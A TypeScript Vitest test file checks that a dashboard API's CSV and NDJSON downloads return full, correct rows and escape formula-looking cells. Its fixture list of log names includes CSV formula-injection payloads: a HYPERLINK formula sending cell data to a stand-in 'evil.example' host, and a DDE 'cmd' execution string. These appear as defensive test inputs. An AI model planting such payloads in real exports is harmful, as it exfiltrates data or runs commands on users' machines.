import { spawnSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CLIENTS_TABLE,
  EVENTS_TABLE,
  IDENTITIES_TABLE,
  SERVERS_TABLE,
  STORM_ATTEMPTS_TABLE,
  STORMS_TABLE,
} from '../../api/services/export-tables.ts';
import { csvCell } from '../../shared/export/csv.ts';
import { type ExportTable, valueAt } from '../../shared/export/rows.ts';
import { createTestApp, get, postNdjson, TEST_NOW, type TestApp } from '../support/app.ts';
import { clientEvent, rpcError } from '../support/events.ts';
import { openDemoSqlite, openTempSqlite, type TestStore } from '../support/stores.ts';

/**
 * Every dashboard table downloads as CSV and NDJSON (issue 21, item 3): the same rows as its JSON answer, every row
 * rather than a page, and CSV that a spreadsheet opens as text whatever names the logs carried.
 */

/** Names a log can carry that break naive CSV, or that a spreadsheet would run as a formula. */
const HOSTILE_NAMES = [
  'plain',
  'comma, inside',
  'quote " inside',
  'line\nbreak',
  'crlf\r\nbreak',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\tleading tab',
  ' =1+1',
  '\u200b=HYPERLINK("http://evil.example/")',
  '\ufeff+1',
  '\u00a0\u2060-2+3',
  '\n@SUM(A1)',
  ' padded ',
  'Grüße 東京 🚀',
];

/** Rows as Python's csv module reads them: the reader spreadsheets' importers are held to. */
function pythonCsv(text: string): string[][] {
  const script = 'import csv, json, sys\nprint(json.dumps(list(csv.reader(sys.stdin, strict=True))))';
  const run = spawnSync('python3', ['-c', script], { input: text, encoding: 'utf8' });
  if (run.status !== 0) throw new Error(run.stderr);
  return JSON.parse(run.stdout);
}

async function download(app: TestApp, path: string, format: 'csv' | 'ndjson') {
  const res = await get(app, `${path}${path.includes('?') ? '&' : '?'}format=${format}`);
  expect(res.status, path).toBe(200);
  return { res, text: await res.text() };
}

const ndjsonRows = (text: string) =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

/** The CSV a table downloads, read back, against the NDJSON of the same rows: the same cells, column by column. */
async function expectSameRows(app: TestApp, path: string, table: ExportTable) {
  const csv = pythonCsv((await download(app, path, 'csv')).text);
  const ndjson = ndjsonRows((await download(app, path, 'ndjson')).text);
  expect(csv[0]).toEqual([...table.columns]);
  expect(csv.slice(1)).toEqual(ndjson.map((row) => table.columns.map((column) => expectedCell(valueAt(row, column)))));
  return ndjson;
}

/** What a cell reads as: text as it was, but behind a `'` where a spreadsheet would run it as a formula. */
function expectedCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return /^[\t\r]|^[\s\u200b\u2060\ufeff]*[=+\-@]/.test(value) ? `'${value}` : value;
  return typeof value === 'object' ? JSON.stringify(value) : String(value);
}

describe('downloads of events with names taken from logs', () => {
  let db: TestStore;
  let app: TestApp;
  const T0 = TEST_NOW - 30 * 60_000;
  beforeAll(async () => {
    db = await openTempSqlite();
    app = createTestApp(db.store);
    const events = HOSTILE_NAMES.flatMap((name, i) =>
      [0, 1].map((k) =>
        clientEvent({
          id: `hostile-${i}-${k}`,
          ts: new Date(T0 + i * 1000 + k * 100).toISOString(),
          client: name,
          server: name,
          session: name,
          request: { jsonrpc: '2.0', id: i, method: 'tools/call', params: { name, arguments: { [name]: name } } },
          ...(k === 1 && { response: rpcError(-32601, name, { reason: name }) }),
        }),
      ),
    );
    expect((await postNdjson(app, events)).status).toBe(200);
  });
  afterAll(async () => db.dispose());

  it('opens in a CSV reader with the same cells as the NDJSON, formulas made inert', async () => {
    const rows = await expectSameRows(app, '/api/v1/events', EVENTS_TABLE);
    expect(rows).toHaveLength(HOSTILE_NAMES.length * 2);
    const servers = new Set(rows.map((row) => row.server));
    expect(servers).toEqual(new Set(HOSTILE_NAMES));
  });

  it('keeps the rows and cells of the JSON answer in the NDJSON', async () => {
    const json = await (await get(app, '/api/v1/events?limit=1000')).json();
    const { text } = await download(app, '/api/v1/events', 'ndjson');
    expect(ndjsonRows(text)).toEqual(json.events);
  });

  it('writes a formula-looking name as text and leaves negative numbers alone', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell(-32601)).toBe('-32601');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });

  it('makes a formula inert behind spaces, a zero-width space, a byte order mark or a control character', () => {
    const leads = [' ', '  ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u2060', '\n', '\u0000', ' \u200b\ufeff'];
    for (const lead of leads)
      for (const trigger of ['=', '+', '-', '@'])
        expect(csvCell(`${lead}${trigger}1+1`).replace(/^"/, ''), JSON.stringify(lead + trigger)).toMatch(/^'/);
    expect(csvCell(' padded ')).toBe('" padded "');
    expect(csvCell('\u200bplain')).toBe('\u200bplain');
  });

  it('takes the format from the Accept header, and ?format=json over it', async () => {
    const csv = await get(app, '/api/v1/servers', { accept: 'text/csv' });
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="lens-servers.csv"');
    expect((await csv.text()).split('\r\n')[0]).toBe(SERVERS_TABLE.columns.join(','));
    const ndjson = await get(app, '/api/v1/clients', { accept: 'application/x-ndjson' });
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const json = await get(app, '/api/v1/servers?format=json', { accept: 'text/csv' });
    expect(json.headers.get('content-type')).toMatch(/^application\/json/);
  });

  it('refuses a format it does not write, and a cursor it never issued, as errors rather than files', async () => {
    const format = await get(app, '/api/v1/events?format=xlsx');
    expect(format.status).toBe(400);
    expect((await format.json()).error).toMatchObject({ code: 'invalid_request', field: 'format' });
    const cursor = await get(app, '/api/v1/events?format=csv&cursor=bm90LWEtY3Vyc29y');
    expect(cursor.status).toBe(400);
    expect((await cursor.json()).error).toMatchObject({ code: 'invalid_request', field: 'cursor' });
  });
});

describe('downloads of every row, not a page', () => {
  let db: TestStore;
  let app: TestApp;
  const COUNT = 2_345;
  beforeAll(async () => {
    db = await openTempSqlite();
    app = createTestApp(db.store);
    const events = Array.from({ length: COUNT }, (_, n) =>
      clientEvent({
        id: `many-${n}`,
        ts: new Date(TEST_NOW - 3_600_000 + n * 1000).toISOString(),
        server: n % 3 === 0 ? 'docs' : 'files',
        request: { jsonrpc: '2.0', id: n, method: 'tools/call', params: { name: `t-${n}`, arguments: {} } },
      }),
    );
    for (let i = 0; i < events.length; i += 1000) {
      expect((await postNdjson(app, events.slice(i, i + 1000))).status).toBe(200);
    }
  });
  afterAll(async () => db.dispose());

  it('walks every page of the events, newest first, each once', async () => {
    const rows = ndjsonRows((await download(app, '/api/v1/events?limit=10', 'ndjson')).text);
    expect(rows).toHaveLength(COUNT);
    expect(new Set(rows.map((row) => row.id)).size).toBe(COUNT);
    const times = rows.map((row) => Date.parse(row.ts));
    expect(times).toEqual([...times].sort((a, b) => b - a));
  });

  it('keeps the filters and starts at the cursor given', async () => {
    const docs = ndjsonRows((await download(app, '/api/v1/events?server=docs', 'ndjson')).text);
    expect(docs).toHaveLength(Math.ceil(COUNT / 3));
    expect(docs.every((row) => row.server === 'docs')).toBe(true);
    const first = await (await get(app, '/api/v1/events?limit=100')).json();
    const rest = ndjsonRows((await download(app, `/api/v1/events?cursor=${first.nextCursor}`, 'ndjson')).text);
    expect(rest).toHaveLength(COUNT - 100);
    expect(rest[0].id).not.toBe(first.events[99].id);
  });

  it('downloads an empty range as the CSV header alone and an empty NDJSON', async () => {
    const range = 'from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z';
    expect((await download(app, `/api/v1/events?${range}`, 'csv')).text).toBe(`${EVENTS_TABLE.columns.join(',')}\r\n`);
    expect((await download(app, `/api/v1/events?${range}`, 'ndjson')).text).toBe('');
    expect(pythonCsv((await download(app, `/api/v1/servers?${range}`, 'csv')).text)).toHaveLength(3);
  });
});

describe("downloads of the analysis tables, from the demo federation's day", () => {
  let db: TestStore;
  let app: TestApp;
  beforeAll(async () => {
    db = await openDemoSqlite(TEST_NOW);
    app = createTestApp(db.store);
  });
  afterAll(async () => db.dispose());

  const day = `from=${new Date(TEST_NOW - 24 * 3_600_000).toISOString()}&to=${new Date(TEST_NOW).toISOString()}`;

  it.each([
    ['servers', SERVERS_TABLE, 'servers'],
    ['clients', CLIENTS_TABLE, 'clients'],
    ['identities', IDENTITIES_TABLE, 'identities'],
    ['identities?only=alarmed', IDENTITIES_TABLE, 'identities'],
  ] as const)('/%s: the rows of its JSON answer, in both forms', async (route, table, member) => {
    const path = `/api/v1/${route}${route.includes('?') ? '&' : '?'}${day}`;
    const json = await (await get(app, path)).json();
    expect(json[member].length).toBeGreaterThan(0);
    expect(await expectSameRows(app, path, table)).toEqual(json[member]);
  });

  it('lists every storm of the range, past the JSON page, and each storm downloads its attempts', async () => {
    const page = await (await get(app, `/api/v1/storms?${day}&limit=1`)).json();
    expect(page.storms).toHaveLength(1);
    const all = await expectSameRows(app, `/api/v1/storms?${day}&limit=1`, STORMS_TABLE);
    expect(all.length).toBeGreaterThan(1);
    expect(all).toHaveLength(page.total);
    const storm = await (await get(app, `/api/v1/storms/${all[0].id}`)).json();
    const attempts = await expectSameRows(app, `/api/v1/storms/${all[0].id}`, STORM_ATTEMPTS_TABLE);
    expect(attempts).toEqual(storm.timeline);
    expect(attempts).toHaveLength(all[0].attempts);
  });

  it('is described in the OpenAPI document: the format parameter and both media types of every table', async () => {
    const doc = await (await get(app, '/api/v1/openapi.json')).json();
    for (const path of ['events', 'servers', 'storms', 'storms/{id}', 'identities', 'clients']) {
      const get = doc.paths[`/api/v1/${path}`].get;
      expect(Object.keys(get.responses['200'].content), path).toEqual(
        expect.arrayContaining(['application/json', 'text/csv', 'application/x-ndjson']),
      );
      const format = get.parameters.find((p: { name: string }) => p.name === 'format');
      expect(format?.schema.enum, path).toEqual(['json', 'csv', 'ndjson']);
    }
  });

  it('answers an unknown storm with the JSON 404, not an empty file', async () => {
    const res = await get(app, '/api/v1/storms/bm8?format=csv');
    expect(res.status).toBe(404);
    expect((await res.json()).error.code).toBe('not_found');
  });
});
